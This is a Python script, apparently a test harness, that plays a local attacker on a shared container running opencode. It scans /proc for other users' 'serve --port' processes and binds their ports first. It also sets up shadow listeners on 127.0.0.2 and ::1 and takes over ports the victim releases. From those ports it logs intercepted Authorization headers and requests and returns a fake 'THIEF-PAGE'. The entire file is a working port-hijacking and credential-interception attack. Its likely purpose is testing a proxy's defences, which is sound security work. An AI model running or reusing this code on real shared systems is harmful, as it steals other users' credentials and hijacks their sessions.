#!/usr/bin/env python3
"""An attacker in the container (run as another user, e.g. bob): tries to catch a victim's
opencode credentials and requests by taking its port.

- Squat: any `opencode serve --port N` (N != 0) of another uid seen in /proc is bound at
  once, before opencode can, to catch PID 1's first health probe (and its Authorization).
- Shadow: for each port the victim listens on, bind the same port on 127.0.0.2 and on [::1]
  (IPv6 only): sockets a connection to 127.0.0.1 never reaches, but that a careless check of
  "every listener on the port" would count against the victim (and restart or refuse her).
- Follow: ports the victim uid listens on (from /proc/net/tcp) are remembered; the moment one
  is free (opencode stopped or killed), it is bound, to catch the proxy's next request for the
  victim and answer it with the attacker's page.

Usage: thief.py VICTIM_UID LOG SECONDS. Every bind, connection and request head goes to LOG.
"""
import os
import re
import select
import socket
import sys
import time

victim, log_path, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
me = os.getuid()
log = open(log_path, "a", buffering=1)
held = {}  # port -> listening socket
known = set()
shadows = []


def say(msg):
    log.write(f"{time.time():.3f} {msg}\n")


def listeners():
    """port -> uid of the IPv4 127.0.0.1 / 0.0.0.0 listeners (the ones that matter)."""
    out = {}
    for f in ("/proc/net/tcp",):
        try:
            for line in open(f).read().splitlines()[1:]:
                c = line.split()
                if len(c) > 9 and c[3] == "0A" and c[1].split(":")[0] in ("0100007F", "00000000"):
                    out[int(c[1].rsplit(":", 1)[1], 16)] = int(c[7])
        except OSError:
            pass
    return out


def grab(port, why):
    if port in held:
        return
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # As opencode itself does: a port whose old connections linger in TIME_WAIT is bindable.
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind(("127.0.0.1", port))
        s.listen(16)
        s.setblocking(False)
        held[port] = s
        say(f"BOUND {port} ({why})")
    except OSError:
        s.close()


def serve_once(s):
    try:
        conn, _ = s.accept()
    except OSError:
        return
    conn.settimeout(1)
    try:
        data = conn.recv(65536).decode("latin1")
    except OSError:
        data = ""
    head = data.split("\r\n\r\n")[0].replace("\r\n", " | ")
    if not head:
        # Connected and closed without a byte (the proxy's check of who holds the port).
        say("EMPTY CONNECTION")
        conn.close()
        return
    say(f"REQUEST {head}")
    body = "THIEF-PAGE"
    try:
        conn.sendall(f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\nContent-Type: text/html\r\n"
                     f"Connection: close\r\n\r\n{body}".encode())
    except OSError:
        pass
    conn.close()


say(f"START uid {me} victim {victim}")
end = time.time() + seconds
while time.time() < end:
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            if os.stat(f"/proc/{pid}").st_uid == me:
                continue
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if b"serve" in argv and b"--port" in argv:
            i = argv.index(b"--port")
            try:
                port = int(argv[i + 1])
            except (IndexError, ValueError):
                continue
            if port != 0:
                grab(port, f"squat pid {pid}")
    now = listeners()
    for port, uid in now.items():
        if uid == victim and port not in known:
            known.add(port)
            for fam, addr in ((socket.AF_INET, "127.0.0.2"), (socket.AF_INET6, "::1")):
                sh = socket.socket(fam, socket.SOCK_STREAM)
                if fam == socket.AF_INET6:
                    sh.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
                try:
                    sh.bind((addr, port))
                    sh.listen(4)
                    shadows.append(sh)
                    say(f"SHADOW {addr} {port}")
                except OSError as e:
                    say(f"no shadow {addr} {port}: {e}")
                    sh.close()
    victims = {port for port, uid in now.items() if uid == victim}
    for port in list(known):
        if port not in victims:
            grab(port, "follow")
    if held:
        ready, _, _ = select.select(list(held.values()), [], [], 0.002)
        for s in ready:
            serve_once(s)
    else:
        time.sleep(0.002)
say("END")
